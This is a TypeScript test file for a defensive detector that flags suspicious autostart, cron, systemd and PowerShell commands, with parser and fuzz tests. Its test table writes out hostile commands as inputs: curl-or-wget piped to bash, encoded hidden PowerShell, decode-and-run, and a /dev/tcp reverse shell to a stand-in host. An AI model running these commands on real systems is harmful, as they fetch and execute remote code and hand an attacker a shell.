import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { autostartCommands, keyOwners } from '../../../../../main/probe/normalise/state/autostart-commands.ts'
import { readRegistryOutput } from '../../../../../main/probe/normalise/state/registry-output.ts'
import { suspiciousSigns } from '../../../../../main/probe/normalise/state/suspicious-signs.ts'
import {
  readGuids,
  readMembers,
  readScheduledTasks,
  readWmiEvents,
} from '../../../../../main/probe/normalise/state/tool-output.ts'

describe('signs of attack', () => {
  test.each([
    [
      'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
      ['encoded-powershell', 'hidden-powershell'],
    ],
    ['mshta http://192.0.2.1/a.hta', ['script-host', 'remote-script']],
    ['msiexec /q /i http://192.0.2.1/a.msi', ['remote-script']],
    ['pwsh -W 1 -EncodedCommand SQBFAFgAIAAoAE4AZQB3', ['encoded-powershell', 'hidden-powershell']],
    ['wscript C:\\Users\\Public\\a.vbs', ['script-host', 'temp-place', 'loose-program']],
    ['C:\\Users\\sato\\AppData\\Local\\Temp\\svchost.exe', ['temp-place']],
    ['rundll32.exe C:\\ProgramData\\x.dll,Start', ['rundll-odd', 'loose-program']],
    ['* * * * * root curl -s http://192.0.2.1/x | bash', ['download-and-run']],
    ['@reboot root /usr/bin/wget -q http://192.0.2.1/a -O- | /bin/bash', ['download-and-run']],
    ['Exec=bash -c "bash <(curl -s http://192.0.2.1/a)"', ['download-and-run']],
    [`Exec=sh -c 'eval "$(wget -qO- http://192.0.2.1/a)"'`, ['download-and-run']],
    ['Exec=sh -c "curl -s http://192.0.2.1/a -o ~/.a; chmod +x ~/.a; ~/.a"', ['download-and-run']],
    ['curl -s http://192.0.2.1/a | python3', ['download-and-run']],
    ['ExecStart=/bin/sh -c "$(echo Y3VybA== | base64 -d)"', ['decode-and-run']],
    ['Exec=/home/sato/.cache/.x/run', ['hidden-place']],
    ['ExecStart=%h/.local/share/.d/agent', ['hidden-place']],
    ['powershell -ep bypass -f "C:\\Users\\佐藤\\AppData\\Roaming\\V\\a.ps1"', ['script-host']],
    ['"C:\\Users\\佐藤\\AppData\\Roaming\\svhost.exe" /q', ['loose-program']],
    ['%APPDATA%\\winlog.exe', ['loose-program']],
    ['C:\\Users\\sato\\Downloads\\見積書\\見積書.exe', ['loose-program']],
    ['echo aGk= | base64 -d | sh', ['decode-and-run']],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', ['reverse-shell']],
    ['ExecStart=/tmp/.x/miner', ['temp-place']],
    ['export LD_PRELOAD=/usr/lib/libx.so', ['preload']],
  ])('%s', (command, signs) => expect(suspiciousSigns(command)).toEqual(signs))
  test.each([
    '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
    'C:\\Users\\佐藤\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart Teams.exe',
    'rundll32.exe "C:\\Windows\\System32\\shell32.dll",Control_RunDLL',
    'ExecStart=/usr/sbin/sshd -D $SSHD_OPTS',
    'if [ -f ~/.bashrc ]; then . ~/.bashrc; fi',
    'export PATH="$HOME/.local/bin:$PATH"',
    '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
    'C:\\Windows\\system32\\userinit.exe,',
    'cmd.exe /c rd /s /q "C:\\Users\\sato\\AppData\\Local\\Temp\\setup"',
    'msiexec.exe /x {8f9c} /qn',
    '"C:\\Users\\佐藤\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe"',
    'C:\\Users\\sato\\AppData\\Local\\slack\\slack.exe --process-start-args --startup',
    'C:\\ProgramData\\Vendor\\update.exe',
    '"C:\\Program Files\\V\\v.exe" "C:\\Users\\sato\\Documents\\予定.xlsx"',
    'eval "$(pyenv init -)"; source <(kubectl completion bash)',
    '0 5 * * * sato /home/sato/backup.sh && curl -fsS https://ping.example/1 > /dev/null',
    'weather() { curl -s wttr.in/Osaka; }; . "$HOME/.cargo/env"',
    'Exec=/home/sato/.nvm/versions/node/v24/lib/node_modules/.bin/pm2 resurrect',
  ])('none: %s', (command) => expect(suspiciousSigns(command)).toEqual([]))
  test('padding hides nothing, and a long hostile text ends', () => {
    expect(suspiciousSigns(`curl http://192.0.2.1/x${' '.repeat(50_000)}| sh`)).toEqual(['download-and-run'])
    for (const piece of [
      'powershell ',
      'curl a ',
      '/.a',
      '/home/a/.b',
      'eval $(',
      'nc -',
      '"\\temp',
      'wscript ',
    ])
      suspiciousSigns(piece.repeat(40_000))
  })
})

describe('commands of autostart files', () => {
  test.each([
    [
      '/etc/systemd/system/a.service',
      '[Service]\nExecStart=/usr/bin/a --b\n#ExecStart=/no\n',
      ['/usr/bin/a --b'],
    ],
    ['/home/s/.config/autostart/a.desktop', '[Desktop Entry]\nExec=a %U\nName=A\n', ['a %U']],
    [
      '/Library/LaunchAgents/a.plist',
      '<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>a &amp;&amp; b</string></array></dict></plist>',
      ['/bin/sh -c "a && b"'],
    ],
    ['/etc/cron.d/a', '# no\n\n* * * * * root true\n', ['* * * * * root true']],
    ['/home/s/.bashrc', 'secret=1\n', []],
  ])('%s', (path, text, commands) => expect(autostartCommands(path, text)).toEqual(commands))
  test('a public key is named, not given away', () => {
    expect(keyOwners('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKabcdefghij sato@pc\n')).toEqual([
      'ssh-ed25519 AAAAC3NzaC1l… sato@pc',
    ])
  })
})

describe('output of Windows tools', () => {
  test('reg query: values with spaces, the nameless value, other lines', () => {
    // Microsoft Learn, "reg query"; sentences of a Japanese Windows.
    const output =
      '\r\nHKEY_CURRENT_USER\\Software\\X\r\n    (既定)    REG_SZ    a b\r\n    My App    REG_EXPAND_SZ    "C:\\P F\\a.exe" /s\r\n    Empty    REG_SZ    \r\n\r\n検索の完了: 3 件見つかりました。\r\n'
    expect(readRegistryOutput(output).map(({ name, data }) => [name, data])).toEqual([
      ['', 'a b'],
      ['My App', '"C:\\P F\\a.exe" /s'],
      ['Empty', ''],
    ])
  })
  test('scheduled tasks: command, COM handler, switched off', () => {
    const output = `<Tasks><!-- \\A\\B --><Task><Settings><Enabled>false</Enabled></Settings><Actions><ComHandler><ClassId>{1}</ClassId></ComHandler></Actions></Task></Tasks>`
    expect(readScheduledTasks(output)).toMatchObject([
      { key: '\\A\\B', details: { commands: ['COM {1}'], enabled: false } },
    ])
  })
  test('an unknown shape is unread, never empty', () => {
    expect(readMembers('アクセスが拒否されました。')).toBeNull()
    expect(readWmiEvents('<Event><')).toBeNull()
  })
})

test('no text makes a reader throw', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
      for (const read of [
        readRegistryOutput,
        readScheduledTasks,
        readGuids,
        readMembers,
        readWmiEvents,
        keyOwners,
        suspiciousSigns,
      ])
        read(text)
      for (const path of ['a.service', 'a.plist', '/etc/crontab', 'a.desktop']) autostartCommands(path, text)
    }),
  )
})
